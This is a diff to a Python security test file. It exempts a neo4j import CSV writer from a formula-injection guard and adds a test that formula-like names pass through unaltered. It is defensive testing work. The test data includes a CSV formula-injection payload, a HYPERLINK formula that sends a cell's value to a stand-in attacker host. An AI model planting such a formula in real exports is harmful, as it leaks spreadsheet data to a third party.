@@ -158,18 +158,47 @@ def test_formula_cells_are_neutralised(cell: str) -> None:
     attack_class("CSV formula injection: " + repr(cell[:2]))
 
 
+#: CSV writers whose files are a machine's import format, never opened in a spreadsheet,
+#: and which therefore must NOT neutralise formulas: the importer reads every character of
+#: a cell as data, so a leading apostrophe would become part of the name it imports
+#: (``'=Acme`` in the database). docs/neo4j.md says these files are not for spreadsheets.
+MACHINE_IMPORT_WRITERS = {
+    "queries/neo4j_import.py": "neo4j-admin database import full (docs/neo4j.md)",
+}
+
+
 def test_every_csv_writer_goes_through_the_guard() -> None:
-    """No module writes CSV with a bare ``csv.writer`` except the guard itself."""
+    """No module writes CSV with a bare ``csv.writer`` except the guard itself and the
+    machine-import writers (:data:`MACHINE_IMPORT_WRITERS`, each named with its importer)."""
     offenders = []
     for d in ("graph", "loaders", "queries", "cli", "explorer"):  # benchmarks: synthetic data
         for f in sorted((ROOT / d).rglob("*.py")):
-            if f.name == "csvsafe.py":
+            if f.name == "csvsafe.py" or str(f.relative_to(ROOT)) in MACHINE_IMPORT_WRITERS:
                 continue
             text = f.read_text()
             if "csv.writer(" in text or "csv.DictWriter(" in text:
                 if "neutralise" not in text and "csvsafe" not in text:
                     offenders.append(str(f.relative_to(ROOT)))
     assert offenders == []
+
+
+def test_machine_import_files_keep_formula_like_names_as_written(tmp_path: Path) -> None:
+    """The exempted writer's reason holds: neo4j-admin imports a formula-like name exactly
+    as the store has it (no apostrophe), and the docs say the files are not for
+    spreadsheets."""
+    from ownergraph.queries.neo4j_import import neo4j_import_files
+
+    store = _old_store(tmp_path / "old.db", FORMULAS)
+    with Store(store) as s:
+        files = neo4j_import_files(s)
+    head = next(csv.reader(io.StringIO(files["parties_header.csv"].decode(), newline="")))
+    rows = list(csv.reader(io.StringIO(files["parties.csv"].decode(), newline="")))
+    names = [r[head.index("name")] for r in rows]
+    assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in names, names
+    assert names and all(n in FORMULAS for n in names), names  # none altered
+    doc = (ROOT / "docs" / "neo4j.md").read_text()
+    assert "not for spreadsheets" in doc
+    assert set(MACHINE_IMPORT_WRITERS) == {"queries/neo4j_import.py"}
 
 
 # --------------------------------------------------------------------------- hole 6
